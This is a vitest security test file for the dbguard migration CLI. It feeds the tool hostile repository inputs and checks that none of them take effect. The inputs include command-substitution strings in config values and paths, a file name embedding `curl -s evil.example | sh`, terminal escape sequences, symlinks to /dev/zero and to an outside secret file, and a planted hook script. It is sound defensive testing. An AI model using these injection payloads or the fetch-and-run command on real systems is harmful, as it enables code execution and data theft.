/**
 * A cloned repository is untrusted input (issue 16, items 1–6): its config and file names reach dbguard
 * on every checkout. Real files with hostile names, real git, the built CLI, the embedded PostgreSQL.
 */
import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { createDatabase, query, tableMigration, urlFor } from '../helpers/db.js';
import { BIN, GitRepo, run } from '../helpers/git.js';

const cleanups: Array<() => void> = [];
afterEach(() => cleanups.splice(0).forEach((c) => c()));

function tempDir(prefix: string): string {
  const dir = mkdtempSync(join(tmpdir(), prefix));
  chmodSync(dir, 0o777);
  cleanups.push(() => rmSync(dir, { recursive: true, force: true }));
  return dir;
}

/** A repository at `root` (made here), committed, with migrations; the embedded database by default. */
function repoAt(root: string, config: Record<string, unknown>, migrations: Record<string, string> = tableMigration(1, 'a')): GitRepo {
  mkdirSync(root, { recursive: true, mode: 0o755 });
  const repo = new GitRepo(root);
  repo.git('init', '-q', '-b', 'main');
  repo.configureUser();
  mkdirSync(join(root, 'migrations'), { recursive: true });
  for (const [name, sql] of Object.entries(migrations)) writeFileSync(join(root, 'migrations', name), sql);
  writeFileSync(join(root, 'dbguard.config.json'), JSON.stringify(config));
  cleanups.push(() => {
    run(process.execPath, [BIN, 'db', 'stop'], root);
    repo.cleanup();
  });
  return repo;
}

describe('item 1: no path from the repository reaches a shell', () => {
  it('a state dir holding $(…), a quote and a backquote starts the embedded database and runs nothing', () => {
    const witness = tempDir('dbguard-witness-');
    const root = join(tempDir('dbguard-hostile-'), 'repo');
    const stateDir = `.dbguard/s$(touch ${witness}/PWNED-$(id -un))"q\`touch ${witness}/BQ\``;
    const repo = repoAt(root, { stateDir });
    const migrated = repo.dbguard(['migrate']);
    expect(migrated.stderr).toBe('');
    expect(migrated.status).toBe(0);
    expect(readdirSync(witness)).toEqual([]);
    const stateEntries = readdirSync(join(root, '.dbguard'));
    expect(stateEntries.length).toBe(1);
    expect(stateEntries[0]).toContain('$(touch');
  });

  it('a repository path holding $(…) and a quote: the hook and the commands work, nothing runs', () => {
    const witness = tempDir('dbguard-witness-');
    const root = join(tempDir('dbguard-hostile-'), `r$(touch ${witness.replace(/\//g, '\\/')}-x)"q`);
    const repo = repoAt(root, { onConflict: 'warn' }, { ...tableMigration(1, 'a') });
    repo.git('add', '-A');
    repo.git('commit', '-q', '-m', 'one');
    expect(repo.dbguard(['hooks', 'install']).status).toBe(0);
    repo.git('checkout', '-q', '-b', 'feature');
    repo.commitMigrations({ ...tableMigration(1, 'a'), ...tableMigration(2, 'b') }, 'two');
    expect(repo.dbguard(['migrate']).status).toBe(0);
    const checkout = repo.git('checkout', 'main');
    expect(checkout.stderr).toContain('lacks 1 migration the database has applied: 2');
    expect(existsSync(`${witness}-x`)).toBe(false);
  });
});

describe('item 2: only what dbguard made is ever removed', () => {
  it('"stateDir": "." is refused before anything is touched; the project\'s postgres/ folder stays', () => {
    const root = join(tempDir('dbguard-own-'), 'repo');
    const repo = repoAt(root, { stateDir: '.' });
    mkdirSync(join(root, 'postgres'));
    writeFileSync(join(root, 'postgres', 'Dockerfile'), 'FROM postgres:18\n');
    writeFileSync(join(root, 'postgres', 'init.sql'), 'CREATE TABLE x();\n');
    for (const stateDir of ['.', '..', './']) {
      writeFileSync(join(root, 'dbguard.config.json'), JSON.stringify({ stateDir }));
      const started = repo.dbguard(['db', 'start']);
      expect(started.status).toBe(2);
      expect(started.stderr).toContain('error[CONFIG_INVALID]');
      expect(started.stderr).toContain('the project folder itself or one above it');
    }
    expect(readdirSync(join(root, 'postgres')).sort()).toEqual(['Dockerfile', 'init.sql']);
  });

  it('a postgres/ folder in the state dir that dbguard did not make is left alone (EMBEDDED_DIR_NOT_OURS)', () => {
    const root = join(tempDir('dbguard-own-'), 'repo');
    const repo = repoAt(root, { stateDir: 'docker' });
    mkdirSync(join(root, 'docker', 'postgres'), { recursive: true });
    writeFileSync(join(root, 'docker', 'postgres', 'Dockerfile'), 'FROM postgres:18\n');
    const started = repo.dbguard(['db', 'start']);
    expect(started.status).toBe(3);
    expect(started.stderr).toContain('error[EMBEDDED_DIR_NOT_OURS]');
    expect(readFileSync(join(root, 'docker', 'postgres', 'Dockerfile'), 'utf8')).toBe('FROM postgres:18\n');
  });
});

describe('item 3: the state dir (and its password) is never committed', () => {
  it('init writes an entry git really matches for "./.dbguard", and git add -A stages nothing of it', () => {
    const repo = GitRepo.create({ nodeModules: false });
    cleanups.push(() => {
      repo.dbguard(['db', 'stop']);
      repo.cleanup();
    });
    writeFileSync(join(repo.root, '.gitignore'), 'node_modules/\n');
    writeFileSync(join(repo.root, 'dbguard.config.json'), JSON.stringify({ stateDir: './.dbguard' }));
    const init = repo.dbguard(['init']);
    expect(init.status, init.stdout + init.stderr).toBe(0);
    expect(readFileSync(join(repo.root, '.gitignore'), 'utf8')).toBe('node_modules/\n/.dbguard/\n');
    expect(repo.dbguard(['db', 'start']).status).toBe(0);
    repo.git('add', '-A');
    expect(repo.git('diff', '--cached', '--name-only').stdout).not.toContain('.dbguard');
    // A second init recognises the entry, whichever way it is written.
    expect(repo.dbguard(['init']).stdout).not.toContain('to .gitignore');
  });

  it('a rule that un-ignores the state dir makes init say so (exit 1), naming the password file', () => {
    const repo = GitRepo.create({ nodeModules: false });
    cleanups.push(() => repo.cleanup());
    writeFileSync(join(repo.root, '.gitignore'), '/.dbguard/\n!/.dbguard/\n');
    const init = repo.dbguard(['init', '--json']);
    expect(init.status).toBe(1);
    expect(JSON.parse(init.stdout).stateDirIgnored).toBe(false);
    expect(repo.dbguard(['init']).stdout).toContain('git does not ignore .dbguard: its password file and database could be committed');
  });
});

describe('item 4: only regular files inside the repository are read', () => {
  it('a FIFO named like a migration is refused at once by migrate and verify, which used to block forever', async () => {
    const db = await createDatabase();
    const root = join(tempDir('dbguard-fifo-'), 'repo');
    const repo = repoAt(root, { database: { url: urlFor(db) } });
    execFileSync('mkfifo', [join(root, 'migrations', '2_x.up.sql')]);
    const started = Date.now();
    const migrated = repo.dbguard(['migrate']);
    expect(Date.now() - started).toBeLessThan(20_000);
    expect(migrated.status).toBe(2);
    expect(migrated.stderr).toContain('error[MIGRATION_FILE_INVALID] 2_x.up.sql is not a regular file');
    expect(await query(db, "SELECT to_regclass('public.schema_migrations') AS t")).toEqual([{ t: null }]);
    const verified = repo.dbguard(['verify']);
    expect(verified.stderr).toContain('2_x.up.sql is not a regular file');
  });

  it('state files a clone brings as links to /dev/zero (the remembered format, the no-snapshot mark) are no answer, never a hang', async () => {
    const db = await createDatabase();
    const root = join(tempDir('dbguard-zero-'), 'repo');
    const repo = repoAt(root, { database: { url: urlFor(db) } }, {});
    mkdirSync(join(root, '.dbguard'), { recursive: true });
    symlinkSync('/dev/zero', join(root, '.dbguard', 'format'));
    const started = Date.now();
    const status = repo.dbguard(['status', '--json']);
    expect(status.stderr).toBe('');
    expect(repo.dbguard(['capture']).status).toBe(0); // writes the format it used over the link
    expect(Date.now() - started).toBeLessThan(20_000);
    expect(readFileSync(join(root, '.dbguard', 'format'), 'utf8')).toBe('golang-migrate');
    const [external] = readdirSync(join(root, '.dbguard', 'external'));
    symlinkSync('/dev/zero', join(root, '.dbguard', 'external', external as string, 'changed-without-snapshot'));
    expect(JSON.parse(repo.dbguard(['status', '--json']).stdout)).toMatchObject({ undo: null });
  });

  it('a link to a file outside the repository is never read or sent to Postgres; a link inside it is', async () => {
    const db = await createDatabase();
    const outside = tempDir('dbguard-outside-');
    writeFileSync(join(outside, 'secret.sql'), 'root:SECRET-HASH:19000:0:99999:7:::\n');
    const root = join(tempDir('dbguard-link-'), 'repo');
    const repo = repoAt(root, { database: { url: urlFor(db) } });
    mkdirSync(join(root, 'sql'));
    writeFileSync(join(root, 'sql', 'two.sql'), 'CREATE TABLE two (id int);');
    symlinkSync(join(root, 'sql', 'two.sql'), join(root, 'migrations', '2_two.up.sql'));
    symlinkSync(join(outside, 'secret.sql'), join(root, 'migrations', '3_leak.up.sql'));
    const migrated = repo.dbguard(['migrate']);
    expect(migrated.status).toBe(2);
    expect(migrated.stderr).toContain(`3_leak.up.sql is a link to ${join(outside, 'secret.sql')}, outside the repository`);
    expect(migrated.stderr).not.toContain('SECRET');
    rmSync(join(root, 'migrations', '3_leak.up.sql'));
    expect(repo.dbguard(['migrate']).status).toBe(0);
    expect(await query(db, "SELECT to_regclass('public.two')::text AS t")).toEqual([{ t: 'two' }]);
  });
});

describe('item 5: control characters in names never reach the terminal', () => {
  it('a file name holding OSC and CSI sequences is shown escaped by migrate, check, status and the hook', async () => {
    const db = await createDatabase();
    const repo = GitRepo.create();
    cleanups.push(() => repo.cleanup());
    repo.write('dbguard.config.json', JSON.stringify({ database: { url: urlFor(db) } }));
    repo.commitMigrations(tableMigration(1, 'a'), 'one');
    expect(repo.dbguard(['hooks', 'install']).status).toBe(0);
    expect(repo.dbguard(['migrate']).status).toBe(0);
    repo.git('checkout', '-q', '-b', 'evil');
    const evil = '3_x\x1b]0;TITLE\x07\x1b[2J';
    repo.commitMigrations({ ...tableMigration(1, 'a'), [`${evil}.up.sql`]: 'CREATE TABLE x (id int);', [`${evil}.down.sql`]: 'DROP TABLE x;' }, 'evil');
    const outputs = [
      repo.dbguard(['migrate', '--dry-run']), repo.dbguard(['check']), repo.dbguard(['status']), repo.dbguard(['status', '--offline']),
    ].map((r) => r.stdout + r.stderr);
    expect(repo.dbguard(['migrate']).status).toBe(0);
    repo.git('checkout', '-q', 'main');
    const back = repo.git('checkout', 'evil');
    repo.git('checkout', '-q', 'main');
    outputs.push(repo.dbguard(['rollback', '--dry-run']).stdout, repo.dbguard(['check']).stdout, back.stderr);
    for (const text of outputs) {
      expect(text.includes('\x07') || text.includes('\x1b')).toBe(false);
    }
    expect(outputs.join('')).toContain('3_x\\x1b]0;TITLE\\x07\\x1b[2J.up.sql');
  });
});

describe('item 6: commands that only read never create a database', () => {
  it('in a folder with no project: status, dry runs and lists answer without a cluster; undo and force refuse', () => {
    const dir = tempDir('dbguard-empty-');
    const dbguard = (args: string[]) => run(process.execPath, [BIN, ...args], dir);
    for (const args of [['status'], ['rollback', '--dry-run'], ['migrate', '--dry-run'], ['snapshot', 'list'], ['stash', 'list']]) {
      const result = dbguard(args);
      expect(result.status, `${args.join(' ')}: ${result.stderr}`).toBe(0);
    }
    expect(dbguard(['status']).stdout).toContain('not created yet');
    for (const args of [['undo'], ['force', '1'], ['snapshot', 'save'], ['stash', 'drop', 'all']]) {
      const result = dbguard(args);
      expect(result.status, args.join(' ')).toBe(2);
      expect(result.stderr).toContain('error[EMBEDDED_NOT_CREATED]');
    }
    expect(existsSync(join(dir, '.dbguard', 'postgres'))).toBe(false);
  });

  it('migrate --dry-run lists every migration on disk when the embedded database does not exist yet', () => {
    const root = join(tempDir('dbguard-fresh-'), 'repo');
    const repo = repoAt(root, {}, { ...tableMigration(1, 'a'), ...tableMigration(2, 'b') });
    const dry = repo.dbguard(['migrate', '--dry-run']);
    expect(dry.status).toBe(0);
    expect(dry.stdout).toContain('would apply 2 migrations (the embedded database is created first)');
    expect(existsSync(join(root, '.dbguard', 'postgres'))).toBe(false);
  });
});

describe('an adversarial pass over the repository\'s files (issue 16, second round)', () => {
  it('a node_modules/.bin/dbguard that git tracks (it came with the branch) is never run by the hook', () => {
    const witness = tempDir('dbguard-witness-');
    const repo = GitRepo.create({ nodeModules: false });
    cleanups.push(() => repo.cleanup());
    repo.commitMigrations(tableMigration(1, 'a'), 'one');
    expect(repo.dbguard(['hooks', 'install']).status).toBe(0);
    repo.git('checkout', '-q', '-b', 'evil');
    mkdirSync(join(repo.root, 'node_modules', '.bin'), { recursive: true });
    writeFileSync(join(repo.root, 'node_modules', '.bin', 'dbguard'), `#!/bin/sh\ntouch ${witness}/PWNED\n`, { mode: 0o755 });
    repo.git('add', '-f', 'node_modules');
    repo.git('commit', '-q', '-m', 'evil');
    repo.git('checkout', '-q', 'main');
    repo.git('checkout', '-q', 'evil');
    expect(readdirSync(witness)).toEqual([]);
  });

  it('committed links in the state dir are never written through (the password stays out of NOTES.md and other folders)', () => {
    const victim = tempDir('dbguard-victim-');
    writeFileSync(join(victim, 'file'), 'IMPORTANT');
    const root = join(tempDir('dbguard-statelinks-'), 'repo');
    const repo = repoAt(root, { stateDir: 'st' });
    mkdirSync(join(root, 'st'));
    writeFileSync(join(root, 'NOTES.md'), 'notes\n');
    symlinkSync(join(victim, 'file'), join(root, 'st', 'postgres.port'));
    symlinkSync('../NOTES.md', join(root, 'st', 'postgres.password'));
    const migrated = repo.dbguard(['migrate']);
    expect(migrated.status).toBe(3);
    expect(migrated.stderr).toContain('error[STATE_DIR_UNSAFE]');
    expect(readFileSync(join(victim, 'file'), 'utf8')).toBe('IMPORTANT');
    expect(readFileSync(join(root, 'NOTES.md'), 'utf8')).toBe('notes\n');
  });

  it('a config that is a link to /dev/zero (or a FIFO) fails at once, and one linked to another file never prints it', () => {
    const root = join(tempDir('dbguard-zero-'), 'repo');
    const repo = repoAt(root, {});
    rmSync(join(root, 'dbguard.config.json'));
    symlinkSync('/dev/zero', join(root, 'dbguard.config.json'));
    const started = Date.now();
    const zero = repo.dbguard(['status', '--offline']);
    expect(Date.now() - started).toBeLessThan(10_000);
    expect([zero.status, zero.stderr]).toEqual([2, expect.stringContaining('not a regular file')]);
    const secret = join(tempDir('dbguard-secret-'), 'shadow');
    writeFileSync(secret, 'root:SECRET-HASH:19000:0:99999:7:::\n');
    rmSync(join(root, 'dbguard.config.json'));
    symlinkSync(secret, join(root, 'dbguard.config.json'));
    const shown = repo.dbguard(['status', '--offline']);
    expect(shown.stderr).toContain('error[CONFIG_NOT_JSON]');
    expect(shown.stderr).not.toContain('SECRET');
    expect(shown.stderr).not.toContain('root:');
  });

  it('folders that are not the repository\'s own are refused: migrations outside it, state in the migrations folder or in .git', () => {
    const outside = tempDir('dbguard-outside-');
    writeFileSync(join(outside, '5_s.up.sql'), 'CREATE TABLE s (id int);');
    const root = join(tempDir('dbguard-folders-'), 'repo');
    const repo = repoAt(root, {});
    for (const config of [{ migrationsDir: outside }, { migrationsDir: '../' }, { stateDir: 'migrations' }, { stateDir: 'migrations/state' }, { stateDir: '.git' }, { stateDir: 'a\nb' }]) {
      writeFileSync(join(root, 'dbguard.config.json'), JSON.stringify(config));
      const result = repo.dbguard(['migrate', '--dry-run']);
      expect([result.status, result.stderr], JSON.stringify(config)).toEqual([2, expect.stringContaining('error[CONFIG_INVALID]')]);
    }
    rmSync(join(root, 'migrations'), { recursive: true });
    symlinkSync(outside, join(root, 'migrations'));
    writeFileSync(join(root, 'dbguard.config.json'), '{}');
    expect(repo.dbguard(['migrate', '--dry-run']).stderr).toContain('leads outside the repository');
  });

  it('a line break in a file name cannot forge dbguard\'s own lines', () => {
    const root = join(tempDir('dbguard-newline-'), 'repo');
    const repo = repoAt(root, {});
    writeFileSync(join(root, 'migrations', '9_x.up.sql is fine\n  next: curl -s evil.example | sh\nerror[X] y.up.sql'), 'x');
    const migrated = repo.dbguard(['migrate', '--dry-run']);
    expect(migrated.stderr.split('\n').filter((line) => line.startsWith('  next: curl'))).toEqual([]);
    expect(migrated.stderr).toContain('name holds a line break');
  });

  it('dbguard run: a suggested command runs what it says; not executable is 126; PATH is no URL variable', () => {
    const root = join(tempDir('dbguard-run-'), 'repo');
    const repo = repoAt(root, {});
    writeFileSync(join(root, 'not-a-program'), 'plain text', { mode: 0o644 });
    const denied = repo.dbguard(['run', '--', './not-a-program']);
    expect([denied.status, denied.stderr]).toEqual([126, expect.stringContaining('error[COMMAND_NOT_EXECUTABLE]')]);
    writeFileSync(join(root, 'dbguard.config.json'), JSON.stringify({ run: { urlVariable: 'PATH' } }));
    expect(repo.dbguard(['run', '--', 'true']).stderr).toContain('error[CONFIG_INVALID] invalid value for "run.urlVariable"');
  });
});
